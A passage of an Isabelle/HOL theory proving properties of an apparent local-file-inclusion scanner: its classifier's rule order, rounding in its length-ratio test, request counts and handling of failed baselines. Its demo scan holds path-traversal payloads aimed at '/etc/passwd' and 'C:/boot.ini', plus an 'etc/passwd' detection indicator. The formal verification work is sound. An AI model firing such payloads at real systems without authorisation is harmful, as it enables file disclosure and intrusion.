      also have "\<dots> = 2 powi 53 * 2 powi (e - 52)" by (subst power_int_add) simp_all
      finally show ?thesis by simp
    qed
    finally have "double_div n d \<le> 1 / 4" using h s(1) by simp
    then have "\<not> double_div 3 10 < double_div n d" unfolding F by linarith
    moreover have "\<not> (10808639105689191 / 36028797018963968 :: rat) \<le> ?q" using q by linarith
    ultimately show ?thesis by blast
  next
    case mid
    have D: "shl d (e - 52) = d" by (simp add: mid shl_def)
    have N: "shl n (52 - e) = n * 18014398509481984" by (simp add: mid shl_def)
    have V: "double_div n d = of_nat m / 18014398509481984"
      using s(1) by (simp add: mid)
    have "double_div 3 10 < double_div n d \<longleftrightarrow> (5404319552844595 :: rat) < of_nat m"
      unfolding V F by simp
    also have "\<dots> \<longleftrightarrow> (of_nat 5404319552844595 :: rat) < of_nat m" by simp
    also have "\<dots> \<longleftrightarrow> 5404319552844595 < m" by (simp only: of_nat_less_iff)
    also have "\<dots> \<longleftrightarrow> 2 * 5404319552844595 * d + d \<le> 2 * (n * 18014398509481984)"
      unfolding m_def D N by (rule round_half_even_div_gt_odd[OF assms]) simp
    also have "\<dots> \<longleftrightarrow> 10808639105689191 * d \<le> n * 36028797018963968"
      by (simp add: mult.commute)
    also have "\<dots> \<longleftrightarrow> (of_nat (10808639105689191 * d) :: rat) \<le> of_nat (n * 36028797018963968)"
      by (simp only: of_nat_le_iff)
    also have "\<dots> \<longleftrightarrow> (10808639105689191 / 36028797018963968 :: rat) \<le> ?q"
      using assms by (simp add: field_simps)
    finally show ?thesis .
  qed
qed

lemma ratio_threshold:
  assumes "0 < d" "d < 2 ^ 52"
  shows "(10808639105689191 / 36028797018963968 :: rat) \<le> of_nat n / of_nat d
           \<longleftrightarrow> (3 / 10 :: rat) < of_nat n / of_nat d"
proof -
  have "(10808639105689191 / 36028797018963968 :: rat) \<le> of_nat n / of_nat d
          \<longleftrightarrow> (of_nat (10808639105689191 * d) :: rat) \<le> of_nat (n * 36028797018963968)"
    using assms(1) by (simp add: field_simps)
  also have "\<dots> \<longleftrightarrow> 10808639105689191 * d \<le> n * 36028797018963968"
    by (simp only: of_nat_le_iff)
  also have "\<dots> \<longleftrightarrow> 3 * d < 10 * n" using assms by simp linarith
  also have "\<dots> \<longleftrightarrow> (of_nat (3 * d) :: rat) < of_nat (10 * n)" by (simp only: of_nat_less_iff)
  also have "\<dots> \<longleftrightarrow> (3 / 10 :: rat) < of_nat n / of_nat d"
    using assms(1) by (simp add: field_simps)
  finally show ?thesis .
qed


lemma double_div_self:
  assumes "0 < n"
  shows "double_div n n = 1"
proof -
  define e where "e = exponent_of n n"
  note c = exponent_of_correct[OF assms assms, folded e_def]
  have q: "(of_nat n / of_nat n :: rat) = 1" using assms by simp
  have "e = 0"
  proof (rule ccontr)
    assume "e \<noteq> 0"
    then consider "1 \<le> e" | "e + 1 \<le> 0" by linarith
    then show False
    proof cases
      case 1
      then have "(2 powi 1 :: rat) \<le> 2 powi e" by (intro power_int_increasing) simp_all
      then show False using c q by simp
    next
      case 2
      then have "(2 powi (e + 1) :: rat) \<le> 2 powi 0" by (intro power_int_increasing) simp_all
      then show False using c q by simp
    qed
  qed
  then have "double_div n n = of_nat (round_half_even_div (n * 2 ^ 52) n) * 2 powi (- 52)"
    using assms by (simp add: double_div_def Let_def shl_def flip: e_def)
  moreover have "round_half_even_div (n * 2 ^ 52) n = 2 ^ 52"
    using assms by (simp add: round_half_even_div_def)
  ultimately show ?thesis by simp
qed

lemma diffRatio_zero: "0 < b \<Longrightarrow> diffRatio 0 b = 1"
  by (simp add: diffRatio_def double_div_self)

lemma three_tenths_less_one: "double_div 3 10 < 1"
  by (simp add: three_tenths)

lemma double_delta_rule_exact:
  assumes "b < 2 ^ 52"
  shows "double_delta_rule (Some b) len = length_delta_rule (Some b) len"
proof (cases "0 < b")
  case False
  then show ?thesis by (simp add: double_delta_rule_def length_delta_rule_def)
next
  case True
  then have d: "0 < nat b" by simp
  have lt: "nat b < 2 ^ 52" using assms True by (simp add: nat_less_iff)
  have "(of_nat (nat \<bar>len - b\<bar>) :: rat) / of_nat (nat b) = \<bar>of_int len - of_int b\<bar> / of_int b"
    using True by simp
  then show ?thesis
    using True double_div_gt_three_tenths[OF d, of "nat \<bar>len - b\<bar>"]
      ratio_threshold[OF d lt, of "nat \<bar>len - b\<bar>"]
    by (simp add: double_delta_rule_def length_delta_rule_def)
qed

subsection \<open>Classifier\<close>

text \<open>
  Division rounds. For the baseline length 9000000000000003 and the length
  6300000000000002 the exact quotient exceeds 3/10, the double quotient is the double
  nearest to 0.3, and rule 2 does not apply.
\<close>

lemma diffRatio_rounds:
  "diffRatio 6300000000000002 9000000000000003 = double_div 3 10
   \<and> length_delta_rule (Some 9000000000000003) 6300000000000002
   \<and> analyzeLfiHeuristics [] None (Some 9000000000000003) 200 6300000000000002
       = (NOT_VULNERABLE, Low)"
proof -
  have "diffRatio 6300000000000002 9000000000000003 = 5404319552844595 / 18014398509481984"
    by (simp add: diffRatio_def) (simp add: double_eval)
  then show ?thesis
    by (simp add: analyzeLfiHeuristics_def three_tenths length_delta_rule_def)
qed

text \<open>
  Claim C1. The classifier evaluates its rules in a fixed order and the first rule that
  applies decides: non-empty indicators give \<open>CONFIRMED_LFI\<close>/\<open>High\<close>; otherwise rule 2
  (length delta above 30 percent of a known positive baseline length) gives
  \<open>POSSIBLE_LFI\<close>/\<open>Medium\<close>; otherwise rule 3 (status differs from a known baseline
  status) gives \<open>SUSPICIOUS\<close>/\<open>Low\<close>; otherwise the verdict is
  \<open>NOT_VULNERABLE\<close>/\<open>Low\<close>. Rule 2 compares the double quotient with the double
  \<open>0.3\<close>, for every input; for a baseline length below \<open>2^52\<close>, which every string
  length is, that is the comparison of the exact quotient with 3/10. For the indicators
  \<open>["etc/passwd"]\<close>, baseline length 100 and length 1000 the verdict is
  \<open>CONFIRMED_LFI\<close>/\<open>High\<close> although rule 2 applies too.
\<close>

theorem analyzeLfiHeuristics_first_match:
  "(inds \<noteq> [] \<longrightarrow> analyzeLfiHeuristics inds bS bL st len = (CONFIRMED_LFI, High))
   \<and> (inds = [] \<and> double_delta_rule bL len
        \<longrightarrow> analyzeLfiHeuristics inds bS bL st len = (POSSIBLE_LFI, Medium))
   \<and> (inds = [] \<and> \<not> double_delta_rule bL len \<and> status_rule bS st
        \<longrightarrow> analyzeLfiHeuristics inds bS bL st len = (SUSPICIOUS, Low))
   \<and> (inds = [] \<and> \<not> double_delta_rule bL len \<and> \<not> status_rule bS st
        \<longrightarrow> analyzeLfiHeuristics inds bS bL st len = (NOT_VULNERABLE, Low))
   \<and> ((case bL of None \<Rightarrow> True | Some b \<Rightarrow> b < 2 ^ 52)
        \<longrightarrow> double_delta_rule bL len = length_delta_rule bL len)
   \<and> analyzeLfiHeuristics [''etc/passwd''] bS (Some 100) st 1000 = (CONFIRMED_LFI, High)
   \<and> length_delta_rule (Some 100) 1000 \<and> double_delta_rule (Some 100) 1000"
proof -
  have r: "(inds \<noteq> [] \<longrightarrow> analyzeLfiHeuristics inds bS bL st len = (CONFIRMED_LFI, High))
   \<and> (inds = [] \<and> double_delta_rule bL len
        \<longrightarrow> analyzeLfiHeuristics inds bS bL st len = (POSSIBLE_LFI, Medium))
   \<and> (inds = [] \<and> \<not> double_delta_rule bL len \<and> status_rule bS st
        \<longrightarrow> analyzeLfiHeuristics inds bS bL st len = (SUSPICIOUS, Low))
   \<and> (inds = [] \<and> \<not> double_delta_rule bL len \<and> \<not> status_rule bS st
        \<longrightarrow> analyzeLfiHeuristics inds bS bL st len = (NOT_VULNERABLE, Low))"
    by (cases bL; cases bS)
       (auto simp: analyzeLfiHeuristics_def double_delta_rule_def status_rule_def diffRatio_def)
  have e: "(case bL of None \<Rightarrow> True | Some b \<Rightarrow> b < 2 ^ 52)
        \<longrightarrow> double_delta_rule bL len = length_delta_rule bL len"
  proof (cases bL)
    case None
    then show ?thesis by (simp add: double_delta_rule_def length_delta_rule_def)
  next
    case (Some b)
    then show ?thesis using double_delta_rule_exact[of b len] by simp
  qed
  have x: "analyzeLfiHeuristics [''etc/passwd''] bS (Some 100) st 1000 = (CONFIRMED_LFI, High)"
    by (simp add: analyzeLfiHeuristics_def)
  have l: "length_delta_rule (Some 100) 1000" by (simp add: length_delta_rule_def)
  then have d: "double_delta_rule (Some 100) 1000"
    using double_delta_rule_exact[of 100 1000] by simp
  show ?thesis using r e x l d by blast
qed

theorem analyzeLfiHeuristics_first_match_witness:
  "analyzeLfiHeuristics [''etc/passwd''] (Some 200) (Some 100) 500 1000 = (CONFIRMED_LFI, High)
   \<and> analyzeLfiHeuristics [] (Some 200) (Some 100) 500 131 = (POSSIBLE_LFI, Medium)
   \<and> analyzeLfiHeuristics [] (Some 200) (Some 100) 500 130 = (SUSPICIOUS, Low)
   \<and> analyzeLfiHeuristics [] (Some 200) (Some 100) 200 130 = (NOT_VULNERABLE, Low)"
proof -
  have b: "case Some (100 :: int) of None \<Rightarrow> True | Some b \<Rightarrow> b < 2 ^ 52" by simp
  have l1: "length_delta_rule (Some 100) 131" and l0: "\<not> length_delta_rule (Some 100) 130"
    by (simp_all add: length_delta_rule_def)
  have s1: "status_rule (Some 200) 500" and s0: "\<not> status_rule (Some 200) 200"
    by (simp_all add: status_rule_def)
  note t = analyzeLfiHeuristics_first_match
  have w1: "analyzeLfiHeuristics [''etc/passwd''] (Some 200) (Some 100) 500 1000
              = (CONFIRMED_LFI, High)"
    using t[of "[''etc/passwd'']" "Some 200" "Some 100" 500 1000] by simp
  have w2: "analyzeLfiHeuristics [] (Some 200) (Some 100) 500 131 = (POSSIBLE_LFI, Medium)"
    using t[of "[]" "Some 200" "Some 100" 500 131] b l1 by simp
  have w3: "analyzeLfiHeuristics [] (Some 200) (Some 100) 500 130 = (SUSPICIOUS, Low)"
    using t[of "[]" "Some 200" "Some 100" 500 130] b l0 s1 by simp
  have w4: "analyzeLfiHeuristics [] (Some 200) (Some 100) 200 130 = (NOT_VULNERABLE, Low)"
    using t[of "[]" "Some 200" "Some 100" 200 130] b l0 s0 by simp
  show ?thesis by (intro conjI w1 w2 w3 w4)
qed

subsection \<open>Concrete runs\<close>

lemma detectLfiIndicators_empty: "detectLfiIndicators [] = []"
  by code_simp

lemma demo_target: "targetUrl_of demo_popup = ''https://example.com/index.php?file=home.php''"
  by (simp add: targetUrl_of_def demo_popup_def trim_def isWhiteSpace_def)

lemma demo_params: "scan_params demo_popup demo_url = [''file'']"
  by (simp add: scan_params_def paramsToTest_def demo_popup_def trim_def isWhiteSpace_def)

lemma demo_payloads:
  "payloadList_of demo_popup = [''../etc/passwd'', ''/etc/passwd'', ''C:/boot.ini'']"
  by (simp add: payloadList_of_def demo_popup_def slice0_def)

lemma demo_ready: "scan_ready (demo_platform f) demo_popup demo_url"
  by (simp add: scan_ready_def demo_target demo_params) (simp add: demo_platform_def demo_popup_def)

lemma demo_log:
  "scan_log demo_popup demo_url =
    [ demo_url,
      demo_url\<lparr>searchParams := [(''file'', ''../etc/passwd'')]\<rparr>,
      demo_url\<lparr>searchParams := [(''file'', ''/etc/passwd'')]\<rparr>,
      demo_url\<lparr>searchParams := [(''file'', ''C:/boot.ini'')]\<rparr> ]"
  by (simp add: scan_log_def demo_params demo_payloads testUrls_def testUrl_def
      searchParams_keys_def) (simp add: demo_url_def)

subsection \<open>Counting tests and results\<close>

lemma length_probes:
  "length (probes pf p orig bS bL k tus)
     = length (filter (\<lambda>(i, url). fetch pf i url \<noteq> None) (enumerate k (map fst tus)))"
  by (induction tus arbitrary: k) (auto split: option.splits)

lemma length_all_probes:
  "length (all_probes pf u ovs bS bL L k ps)
     = length (filter (\<lambda>(i, url). fetch pf i url \<noteq> None)
                (enumerate k (concat (map (\<lambda>p. map fst (testUrls u p L)) ps))))"
  by (induction ps arbitrary: k)
     (simp_all add: length_probes enumerate_append_eq length_testUrls)

lemma length_scan_log:
  "length (scan_log ps u) = 1 + length (scan_params ps u) * length (payloadList_of ps)"
proof -
  have "length (concat (map (\<lambda>p. map fst (testUrls u p L)) qs)) = length qs * length L" for qs L
    by (induction qs) (simp_all add: length_testUrls)
  then show ?thesis by (simp add: scan_log_def)
qed

text \<open>
  Claim C2. The summary of a scan over the parameters \<open>P\<close> and the payload list \<open>L\<close> has
  \<open>totalTests = |P| * |L|\<close>, whatever the fetches do; the scan issues the baseline
  request and then one request per pair, and \<open>results\<close> has one entry per probe request
  that returned a response, so a failed fetch only leaves its own result out.
\<close>

theorem totalTests_planned_matrix:
  assumes "scan_ready pf ps u"
  shows "\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
     \<and> totalTests summary = length (scan_params ps u) * length (payloadList_of ps)
     \<and> reqs = scan_log ps u
     \<and> length reqs = 1 + totalTests summary
     \<and> length (results summary)
         = length (filter (\<lambda>(k, url). fetch pf k url \<noteq> None) (tl (enumerate 0 reqs)))"
proof -
  have "tl (enumerate 0 (scan_log ps u))
          = enumerate 1 (concat (map (\<lambda>p. map fst (testUrls u p (payloadList_of ps)))
                                     (scan_params ps u)))"
    by (simp add: scan_log_def)
  then show ?thesis
    using handleRunLfi_ok[OF assms] length_scan_log[of ps u]
    by (simp add: scan_results_def length_all_probes)
qed

theorem totalTests_planned_matrix_witness:
  "\<exists>summary reqs.
     handleRunLfi (demo_platform (\<lambda>k u. if k = 2 then None else respond 200 [])) demo_popup
       = (Inr summary, reqs)
     \<and> totalTests summary = 3 \<and> length reqs = 4 \<and> length (results summary) = 2"
  using totalTests_planned_matrix
          [OF demo_ready, of "\<lambda>k u. if k = 2 then None else respond 200 []"]
  by (auto simp: demo_params demo_payloads demo_log demo_platform_def respond_def)

subsection \<open>Every result is the analysis of one response\<close>

lemma probeResult_sel:
  "parameter (probeResult p orig bS bL tu pl res) = p"
  "LfiSingleResult.originalValue (probeResult p orig bS bL tu pl res) = orig"
  "testedUrl (probeResult p orig bS bL tu pl res) = tu"
  "payload (probeResult p orig bS bL tu pl res) = pl"
  "status (probeResult p orig bS bL tu pl res) = http_status res"
  "contentLength (probeResult p orig bS bL tu pl res)
     = int (length (if ok res then safeReadText res else []))"
  "indicators (probeResult p orig bS bL tu pl res)
     = detectLfiIndicators (if ok res then safeReadText res else [])"
  "sample (probeResult p orig bS bL tu pl res) = take 300 (if ok res then safeReadText res else [])"
  "(detection (probeResult p orig bS bL tu pl res), confidence (probeResult p orig bS bL tu pl res))
     = analyzeLfiHeuristics (indicators (probeResult p orig bS bL tu pl res)) bS bL
         (status (probeResult p orig bS bL tu pl res))
         (contentLength (probeResult p orig bS bL tu pl res))"
  "vulnerable (probeResult p orig bS bL tu pl res)
     = (detection (probeResult p orig bS bL tu pl res) \<noteq> NOT_VULNERABLE)"
  by (simp_all add: probeResult_def Let_def)

lemma probes_form:
  "r \<in> set (probes pf p orig bS bL k tus)
   \<Longrightarrow> \<exists>tu pl res. (tu, pl) \<in> set tus \<and> r = probeResult p orig bS bL tu pl res"
proof (induction tus arbitrary: k)
  case Nil
  then show ?case by simp
next
  case (Cons a tus)
  obtain tu pl where a: "a = (tu, pl)" by (cases a)
  have "r = probeResult p orig bS bL tu pl (the (fetch pf k tu))
          \<or> r \<in> set (probes pf p orig bS bL (Suc k) tus)"
    using Cons.prems a by (cases "fetch pf k tu") simp_all
  then show ?case
  proof
    assume "r = probeResult p orig bS bL tu pl (the (fetch pf k tu))"
    then show ?thesis using a by auto
  next
    assume "r \<in> set (probes pf p orig bS bL (Suc k) tus)"
    from Cons.IH[OF this] show ?thesis by auto
  qed
qed

lemma all_probes_form:
  "r \<in> set (all_probes pf u ovs bS bL L k ps)
   \<Longrightarrow> \<exists>p pl res. p \<in> set ps \<and> pl \<in> set L
         \<and> r = probeResult p (lookup_or_null ovs p) bS bL (testUrl u p pl) pl res"
proof (induction ps arbitrary: k)
  case Nil
  then show ?case by simp
next
  case (Cons q qs)
  from Cons.prems consider
    (here) "r \<in> set (probes pf q (lookup_or_null ovs q) bS bL k (testUrls u q L))"
  | (later) "r \<in> set (all_probes pf u ovs bS bL L (k + length L) qs)"
    by auto
  then show ?case
  proof cases
    case here
    from probes_form[OF this] show ?thesis by (auto simp: testUrls_def)
  next
    case later
    from Cons.IH[OF this] show ?thesis by auto
  qed
qed

lemma scan_results_form:
  assumes "r \<in> set (scan_results pf ps u)"
  shows "\<exists>p orig tu pl res.
           r = probeResult p orig (fst (scan_baseline pf u)) (snd (scan_baseline pf u)) tu pl res"
  using all_probes_form[OF assms[unfolded scan_results_def]] by blast

lemma scan_baseline_eq:
  "scan_baseline pf u =
    (case fetch pf 0 u of
       None \<Rightarrow> (None, None)
     | Some b \<Rightarrow> (Some (http_status b), Some (int (length (if ok b then safeReadText b else [])))))"
  by (simp add: scan_baseline_def fetchBaseline_def fetchWithTimeout_def initial_state_def Let_def
      split: option.splits)

lemma demo_scan_results:
  "scan_results (demo_platform f) demo_popup demo_url
     = probes (demo_platform f) ''file'' (Some ''home.php'')
         (fst (scan_baseline (demo_platform f) demo_url))
         (snd (scan_baseline (demo_platform f) demo_url)) 1
         (testUrls demo_url ''file'' [''../etc/passwd'', ''/etc/passwd'', ''C:/boot.ini''])"
  by (simp add: scan_results_def demo_params demo_payloads)
     (simp add: lookup_or_null_def searchParams_get_def demo_url_def)

lemmas demo_eval =
  scan_baseline_eq testUrls_def demo_platform_def respond_def
  probeResult_def Let_def ok_def safeReadText_def detectLfiIndicators_empty
  analyzeLfiHeuristics_def diffRatio_zero three_tenths_less_one

text \<open>
  Claim C4. Every result of a scan has \<open>vulnerable\<close> true exactly when its detection is
  not \<open>NOT_VULNERABLE\<close>, that is when it is \<open>CONFIRMED_LFI\<close>, \<open>POSSIBLE_LFI\<close> or
  \<open>SUSPICIOUS\<close>.
\<close>

theorem vulnerable_iff_detection:
  assumes "scan_ready pf ps u"
  shows "\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
     \<and> (\<forall>r \<in> set (results summary).
           vulnerable r = (detection r \<noteq> NOT_VULNERABLE)
         \<and> vulnerable r = (detection r \<in> {CONFIRMED_LFI, POSSIBLE_LFI, SUSPICIOUS}))"
proof -
  have "vulnerable r = (detection r \<noteq> NOT_VULNERABLE)
        \<and> vulnerable r = (detection r \<in> {CONFIRMED_LFI, POSSIBLE_LFI, SUSPICIOUS})"
    if "r \<in> set (scan_results pf ps u)" for r
  proof -
    from scan_results_form[OF that] obtain p orig bS bL tu pl res
      where "r = probeResult p orig bS bL tu pl res" by blast
    then have "vulnerable r = (detection r \<noteq> NOT_VULNERABLE)" by (simp add: probeResult_sel)
    then show ?thesis by (cases "detection r") simp_all
  qed
  then show ?thesis using handleRunLfi_ok[OF assms] by auto
qed


theorem vulnerable_iff_detection_witness:
  "\<exists>summary reqs.
     handleRunLfi (demo_platform (\<lambda>k u. if k = 2 then respond 500 [] else respond 200 []))
       demo_popup = (Inr summary, reqs)
     \<and> map detection (results summary) = [NOT_VULNERABLE, SUSPICIOUS, NOT_VULNERABLE]
     \<and> (\<forall>r \<in> set (results summary).
           vulnerable r = (detection r \<noteq> NOT_VULNERABLE)
         \<and> vulnerable r = (detection r \<in> {CONFIRMED_LFI, POSSIBLE_LFI, SUSPICIOUS}))"
proof -
  let ?f = "\<lambda>(k::nat) (u::URL). if k = 2 then respond 500 [] else respond 200 []"
  from vulnerable_iff_detection[OF demo_ready, of ?f] obtain summary reqs where
    h: "handleRunLfi (demo_platform ?f) demo_popup = (Inr summary, reqs)"
       "\<forall>r \<in> set (results summary).
           vulnerable r = (detection r \<noteq> NOT_VULNERABLE)
         \<and> vulnerable r = (detection r \<in> {CONFIRMED_LFI, POSSIBLE_LFI, SUSPICIOUS})"
    by blast
  have "results summary = scan_results (demo_platform ?f) demo_popup demo_url"
    using h(1) handleRunLfi_ok[OF demo_ready, of ?f] by auto
  moreover have "map detection (scan_results (demo_platform ?f) demo_popup demo_url)
                   = [NOT_VULNERABLE, SUSPICIOUS, NOT_VULNERABLE]"
    unfolding demo_scan_results by (simp add: demo_eval)
  ultimately have m: "map detection (results summary) = [NOT_VULNERABLE, SUSPICIOUS, NOT_VULNERABLE]"
    by simp
  show ?thesis by (intro exI[of _ summary] exI[of _ reqs] conjI h m)
qed

subsection \<open>Vulnerable counts\<close>

lemma sum_all_summaries:
  "sum_list (map ParameterSummary.vulnerableCount (all_summaries pf u ovs bS bL L k ps))
     = length (filter vulnerable (all_probes pf u ovs bS bL L k ps))"
  by (induction ps arbitrary: k) simp_all

lemma scan_results_vulnerable:
  "filter vulnerable (scan_results pf ps u)
     = filter (\<lambda>r. detection r \<noteq> NOT_VULNERABLE) (scan_results pf ps u)"
proof (rule filter_cong[OF refl])
  fix r assume "r \<in> set (scan_results pf ps u)"
  from scan_results_form[OF this] show "vulnerable r = (detection r \<noteq> NOT_VULNERABLE)"
    by (auto simp: probeResult_sel)
qed

text \<open>
  Claim C3. In the summary of a completed scan, \<open>vulnerableCount\<close> is the number of
  results whose detection is not \<open>NOT_VULNERABLE\<close>, and it is the sum of the
  \<open>vulnerableCount\<close> fields of the parameter summaries.
\<close>

theorem vulnerableCount_consistent:
  assumes "scan_ready pf ps u"
  shows "\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
     \<and> vulnerableCount summary
         = length (filter (\<lambda>r. detection r \<noteq> NOT_VULNERABLE) (results summary))
     \<and> vulnerableCount summary
         = sum_list (map ParameterSummary.vulnerableCount (parametersTested summary))"
  using handleRunLfi_ok[OF assms] scan_results_vulnerable[of pf ps u]
  by (simp add: scan_summaries_def sum_all_summaries) (simp add: scan_results_def)

theorem vulnerableCount_consistent_witness:
  "\<exists>summary reqs.
     handleRunLfi (demo_platform (\<lambda>k u. if k = 0 \<or> k = 2 then respond 200 [] else respond 500 []))
       demo_popup = (Inr summary, reqs)
     \<and> map detection (results summary) = [SUSPICIOUS, NOT_VULNERABLE, SUSPICIOUS]
     \<and> vulnerableCount summary = 2
     \<and> vulnerableCount summary
         = length (filter (\<lambda>r. detection r \<noteq> NOT_VULNERABLE) (results summary))
     \<and> vulnerableCount summary
         = sum_list (map ParameterSummary.vulnerableCount (parametersTested summary))"
proof -
  let ?f = "\<lambda>(k::nat) (u::URL). if k = 0 \<or> k = 2 then respond 200 [] else respond 500 []"
  from vulnerableCount_consistent[OF demo_ready, of ?f] obtain summary reqs where
    h: "handleRunLfi (demo_platform ?f) demo_popup = (Inr summary, reqs)"
       "vulnerableCount summary
         = length (filter (\<lambda>r. detection r \<noteq> NOT_VULNERABLE) (results summary))"
       "vulnerableCount summary
         = sum_list (map ParameterSummary.vulnerableCount (parametersTested summary))"
    by blast
  have "results summary = scan_results (demo_platform ?f) demo_popup demo_url"
    using h(1) handleRunLfi_ok[OF demo_ready, of ?f] by auto
  moreover have "map detection (scan_results (demo_platform ?f) demo_popup demo_url)
                   = [SUSPICIOUS, NOT_VULNERABLE, SUSPICIOUS]"
    unfolding demo_scan_results by (simp add: demo_eval)
  ultimately have m: "map detection (results summary) = [SUSPICIOUS, NOT_VULNERABLE, SUSPICIOUS]"
    by simp
  have "length (filter (\<lambda>r. detection r \<noteq> NOT_VULNERABLE) (results summary))
          = length (filter (\<lambda>d. d \<noteq> NOT_VULNERABLE) (map detection (results summary)))"
    by (simp add: filter_map comp_def)
  then have c: "vulnerableCount summary = 2" using h(2) m by simp
  show ?thesis by (intro exI[of _ summary] exI[of _ reqs] conjI h m c)
qed

subsection \<open>Unknown baseline, and responses that are not ok\<close>

text \<open>
  Claim C5. When the baseline fetch fails, the baseline status and length are both null.
  With both null, rules 2 and 3 do not apply, and the classifier returns
  \<open>CONFIRMED_LFI\<close>/\<open>High\<close> for non-empty indicators and \<open>NOT_VULNERABLE\<close>/\<open>Low\<close>
  otherwise; so does every result of a scan whose baseline fetch failed.
\<close>

theorem baseline_failure_degrades:
  "(fetch pf (length (requests st)) target = None
      \<longrightarrow> fst (fetchBaseline pf target st) = (None, None))
   \<and> \<not> length_delta_rule None len \<and> \<not> status_rule None s
   \<and> analyzeLfiHeuristics inds None None s len
       = (if inds \<noteq> [] then (CONFIRMED_LFI, High) else (NOT_VULNERABLE, Low))
   \<and> (scan_ready pf ps u \<and> fetch pf 0 u = None
      \<longrightarrow> (\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
            \<and> (\<forall>r \<in> set (results summary).
                  (detection r, confidence r)
                    = (if indicators r \<noteq> [] then (CONFIRMED_LFI, High)
                       else (NOT_VULNERABLE, Low)))))"
proof -
  have a: "analyzeLfiHeuristics inds None None s len
             = (if inds \<noteq> [] then (CONFIRMED_LFI, High) else (NOT_VULNERABLE, Low))"
    for inds s len
    by (simp add: analyzeLfiHeuristics_def)
  have b: "fetch pf (length (requests st)) target = None
             \<longrightarrow> fst (fetchBaseline pf target st) = (None, None)"
    by (simp add: fetchBaseline_def fetchWithTimeout_def)
  have c: "(detection r, confidence r)
             = (if indicators r \<noteq> [] then (CONFIRMED_LFI, High) else (NOT_VULNERABLE, Low))"
    if "fetch pf 0 u = None" "r \<in> set (scan_results pf ps u)" for r
  proof -
    have "scan_baseline pf u = (None, None)" using that(1) by (simp add: scan_baseline_eq)
    with scan_results_form[OF that(2)] obtain p orig tu pl res
      where "r = probeResult p orig None None tu pl res" by auto
    then show ?thesis using probeResult_sel(9)[of p orig None None tu pl res] by (simp add: a)
  qed
  have d: "scan_ready pf ps u \<and> fetch pf 0 u = None
      \<longrightarrow> (\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
            \<and> (\<forall>r \<in> set (results summary).
                  (detection r, confidence r)
                    = (if indicators r \<noteq> [] then (CONFIRMED_LFI, High)
                       else (NOT_VULNERABLE, Low))))"
  proof (intro impI, elim conjE)
    assume r: "scan_ready pf ps u" and f: "fetch pf 0 u = None"
    show "\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
            \<and> (\<forall>r \<in> set (results summary).
                  (detection r, confidence r)
                    = (if indicators r \<noteq> [] then (CONFIRMED_LFI, High)
                       else (NOT_VULNERABLE, Low)))"
      unfolding handleRunLfi_ok[OF r] using c[OF f] by simp
  qed
  show ?thesis using a b d by (simp add: length_delta_rule_def status_rule_def)
qed

theorem baseline_failure_degrades_witness:
  "fst (fetchBaseline (demo_platform (\<lambda>k u. if k = 0 then None else respond 500 []))
          demo_url initial_state) = (None, None)
   \<and> analyzeLfiHeuristics [] None None 500 0 = (NOT_VULNERABLE, Low)
   \<and> analyzeLfiHeuristics [''etc/passwd''] None None 500 0 = (CONFIRMED_LFI, High)
   \<and> (\<exists>summary reqs.
        handleRunLfi (demo_platform (\<lambda>k u. if k = 0 then None else respond 500 []))
          demo_popup = (Inr summary, reqs)
        \<and> length (results summary) = 3
        \<and> (\<forall>r \<in> set (results summary).
              (detection r, confidence r)
                = (if indicators r \<noteq> [] then (CONFIRMED_LFI, High)
                   else (NOT_VULNERABLE, Low))))"
proof -
  let ?f = "\<lambda>(k::nat) (u::URL). if k = 0 then None else respond 500 []"
  note t = baseline_failure_degrades
  have f0: "fetch (demo_platform ?f) 0 demo_url = None" by (simp add: demo_platform_def)
  have f1: "fetch (demo_platform ?f) (length (requests initial_state)) demo_url = None"
    by (simp add: demo_platform_def initial_state_def)
  from t[of "demo_platform ?f" initial_state demo_url 0 500 "[]" demo_popup demo_url] f1
  have w1: "fst (fetchBaseline (demo_platform ?f) demo_url initial_state) = (None, None)"
    by blast
  from t[of "demo_platform ?f" initial_state demo_url 0 500 "[]" demo_popup demo_url]
  have w2: "analyzeLfiHeuristics [] None None 500 0 = (NOT_VULNERABLE, Low)" by simp
  from t[of "demo_platform ?f" initial_state demo_url 0 500 "[''etc/passwd'']" demo_popup demo_url]
  have w3: "analyzeLfiHeuristics [''etc/passwd''] None None 500 0 = (CONFIRMED_LFI, High)" by simp
  from t[of "demo_platform ?f" initial_state demo_url 0 500 "[]" demo_popup demo_url]
       demo_ready[of ?f] f0
  obtain summary reqs where
    h: "handleRunLfi (demo_platform ?f) demo_popup = (Inr summary, reqs)"
       "\<forall>r \<in> set (results summary).
              (detection r, confidence r)
                = (if indicators r \<noteq> [] then (CONFIRMED_LFI, High)
                   else (NOT_VULNERABLE, Low))"
    by blast
  have "results summary = scan_results (demo_platform ?f) demo_popup demo_url"
    using h(1) handleRunLfi_ok[OF demo_ready, of ?f] by auto
  moreover have "length (scan_results (demo_platform ?f) demo_popup demo_url) = 3"
    unfolding demo_scan_results by (simp add: demo_eval)
  ultimately have m: "length (results summary) = 3" by simp
  have w4: "\<exists>summary reqs.
        handleRunLfi (demo_platform ?f) demo_popup = (Inr summary, reqs)
        \<and> length (results summary) = 3
        \<and> (\<forall>r \<in> set (results summary).
              (detection r, confidence r)
                = (if indicators r \<noteq> [] then (CONFIRMED_LFI, High)
                   else (NOT_VULNERABLE, Low)))"
    by (intro exI[of _ summary] exI[of _ reqs] conjI h m)
  show ?thesis by (intro conjI w1 w2 w3 w4)
qed

text \<open>
  Claim C10. A probe whose response is not ok (status outside 200 to 299) is analysed
  with the empty body: its result has \<open>contentLength\<close> 0, no indicators and an empty
  sample, and is never \<open>CONFIRMED_LFI\<close>; when the baseline length is known and
  positive, the length ratio is 1 and the result is \<open>POSSIBLE_LFI\<close>/\<open>Medium\<close>.
\<close>

theorem non_ok_probe_empty_body:
  "(\<not> ok res \<longrightarrow>
      contentLength (probeResult p orig bS bL tu pl res) = 0
      \<and> indicators (probeResult p orig bS bL tu pl res) = []
      \<and> sample (probeResult p orig bS bL tu pl res) = []
      \<and> detection (probeResult p orig bS bL tu pl res) \<noteq> CONFIRMED_LFI
      \<and> (\<forall>b. bL = Some b \<and> 0 < b \<longrightarrow>
             diffRatio 0 b = 1
           \<and> detection (probeResult p orig bS bL tu pl res) = POSSIBLE_LFI
